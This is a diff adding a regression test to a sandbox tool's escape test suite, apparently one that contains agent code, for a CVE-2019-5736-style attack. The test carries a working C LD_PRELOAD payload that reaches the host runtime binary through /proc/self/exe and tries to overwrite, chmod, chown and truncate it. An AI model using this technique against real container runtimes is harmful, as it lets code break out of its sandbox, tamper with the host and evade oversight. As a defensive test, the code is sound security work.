@@ -173,6 +173,86 @@ test_escape_haven_binary_in_project() {
   assert_contains "$OUT" "the haven binary $P/haven is inside $P"
 }
 
+# CVE-2019-5736 in `haven run`: the sandbox's first program is executed
+# by haven's own process, so a command that is a `#!/proc/self/exe` script
+# runs haven's binary inside the sandbox, reached through the mount it was
+# started from, not the sandbox's read-only view.  Code injected there (an
+# LD_PRELOAD the agent wrote, passed by a policy) tries to write, chmod and
+# chown that binary.  haven re-executes itself from a read-only view of
+# its binary before the run (self_exe.c); Landlock alone would not stop
+# the chmod or the chown (it has no right for either), which is why the
+# re-execution stays.
+test_escape_haven_binary_through_proc_self_exe() {
+  need_haven
+  command -v cc >/dev/null || skip "no C compiler for the injected library"
+  make_project
+  # An installed copy, outside the project, that the attack may damage.
+  local inst
+  inst=$(mktemp -d "$WORK/installed-XXXXXX")
+  chmod 755 "$inst"
+  cp "$RUNTIME" "$inst/haven-runc"
+  ln -s haven-runc "$inst/haven"
+  cp -r "$(dirname "$RUNTIME")/policies" "$inst/policies"
+  local before
+  before=$(stat -c '%a %u %g' "$inst/haven-runc")$(sha256sum < "$inst/haven-runc")
+  cat > "$P.pol/payload.c" <<'C'
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+/* Acts only in the interpreter of the script (its argv[0] is the shebang's
+ * path); every other program of the run also loads it. */
+__attribute__ ((constructor)) static void
+attack (void)
+{
+  char cmd[64] = "";
+  int c = open ("/proc/self/cmdline", O_RDONLY);
+  if (c < 0 || read (c, cmd, sizeof (cmd) - 1) <= 0 || strcmp (cmd, "/proc/self/exe") != 0)
+    return;
+  FILE *f = fopen (getenv ("ATTACK_OUT"), "w");
+  if (f == NULL)
+    _exit (3);
+  int fd = open ("/proc/self/exe", O_WRONLY);
+  fprintf (f, "write %s\n", fd >= 0 ? "ok" : strerror (errno));
+  int p = open ("/proc/self/exe", O_PATH);
+  char via[64];
+  snprintf (via, sizeof (via), "/proc/self/fd/%d", p);
+  fprintf (f, "chmod %s\n", chmod (via, 0777) == 0 ? "ok" : strerror (errno));
+  fprintf (f, "chown %s\n", chown (via, 65534, 65534) == 0 ? "ok" : strerror (errno));
+  fprintf (f, "truncate %s\n", truncate (via, 0) == 0 ? "ok" : strerror (errno));
+  fclose (f);
+  _exit (0);
+}
+C
+  cc -shared -fPIC -o "$P/payload.so" "$P.pol/payload.c" || fail "cannot build the injected library"
+  printf '#!/proc/self/exe\n' > "$P/evil"
+  chmod +x "$P/evil"
+  printf 'extends: default\nenv:\n  set: {LD_PRELOAD: %s/payload.so, ATTACK_OUT: %s/attack.out}\n' "$P" "$P" \
+    > "$P.pol/inject.yaml"
+  OUT=$(cd "$P" && timeout 30 "$inst/haven" run --policy "$P.pol/inject.yaml" -- ./evil 2>&1 </dev/null)
+  RC=$?
+  # Either the kernel refuses to execute the script (its interpreter lies
+  # on the detached read-only mount haven runs from, which is in no mount
+  # namespace: the exec fails with EACCES), or the injected code ran and
+  # every change to the binary failed.  Without the re-execution the
+  # interpreter starts and the chmod succeeds: this test fails then.
+  local got=""
+  if [ -f "$P/attack.out" ]; then
+    got=$(cat "$P/attack.out")
+    assert_contains "$got" "chmod"
+    assert_not_contains "$got" " ok"
+  else
+    assert_eq 126 "$RC" "exit status of a script whose interpreter is /proc/self/exe ($OUT)"
+    assert_contains "$OUT" "exec ./evil: permission denied"
+  fi
+  assert_eq "$before" "$(stat -c '%a %u %g' "$inst/haven-runc")$(sha256sum < "$inst/haven-runc")" \
+    "the installed binary's mode, owner or content ($got)"
+}
+
 # Item 6: a policy file the sandbox can rewrite before the next run.
 test_escape_policy_file_in_project() {
   need_haven
